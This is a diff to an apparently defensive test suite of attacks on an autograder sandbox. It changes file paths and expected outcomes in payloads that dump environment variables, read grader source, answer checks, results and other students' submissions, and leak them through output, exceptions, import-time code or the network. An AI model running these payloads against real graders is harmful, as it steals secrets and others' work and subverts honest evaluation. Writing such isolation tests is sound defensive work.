@@ -1,13 +1,13 @@
 """Read what is secret, and carry it out: by text that the student sees, or over the network."""
 
-from tests.attacks import INVERSE, ONEHOT, Attack
+from tests.attacks import MEAN, MEAN_MODULE, Attack
 
 LOOT = """
 import glob, os
 def loot():
     found = [repr(dict(os.environ))]
     for pattern in ("source/autograder/*.txt", "source/autograder/*.py", "results/*", "results/.*",
-                    "submission_metadata.json", "source/autograder/homework/checks/*.py", "other/*/*"):
+                    "submission_metadata.json", "source/tests/small/checks/*.py", "other/*/*"):
         for path in glob.glob(TREE + "/" + pattern):
             try: found.append(open(path, errors="replace").read()[-300:])
             except OSError: pass
@@ -55,7 +55,7 @@ def send(text):
 
 def out(name: str, text: str, **more: object) -> Attack:
     """Leaks are open where the worker can read what the grader can; the item falls anyway."""
-    return Attack(name, inside=f"{LOOT}{MEMORY}{SEND}\n{text}\nreturn None", falls=INVERSE,
+    return Attack(name, inside=f"{LOOT}{MEMORY}{SEND}\n{text}\nreturn None", falls=MEAN,
                   open_without_root=True, **more)  # type: ignore
 
 
@@ -70,8 +70,8 @@ ATTACKS = (
     out("secrets as an answer", "return [ord(c) for c in loot()]"),
     out("print the memory of the grader", "print(memory())"),
     out("raise the memory of the grader", "raise ValueError(memory())"),
-    Attack("raise secrets at import", f"{LOOT}raise ValueError(loot())", where="beras/onehot.py",
-           falls=ONEHOT,
+    Attack("raise secrets at import", f"{LOOT}raise ValueError(loot())", where="lines/mean.py",
+           falls=MEAN_MODULE,
            open_without_root=True),
     Attack("print secrets at import", f"{LOOT}{MEMORY}print(loot(), memory())",
            open_without_root=True),
@@ -87,7 +87,8 @@ ATTACKS = (
         "import sys, os\nfor d in range(3, 64):\n"
         "  try: print(os.pread(d, 999, 0))\n  except OSError: pass"),
     out("another submission beside this one",
-        "for p in glob.glob('/tmp/beras-*/submission/**', recursive=True):\n"
+        "for p in [p for top in ('/tmp', TREE + '/tmp') for p in\n"
+        "          glob.glob(top + '/autograder-*/submission/**', recursive=True)]:\n"
         "  if os.environ['HOME'] not in p:\n    try: print(open(p).read())\n"
         "    except OSError: pass"),
     out("the system's log and message queues",
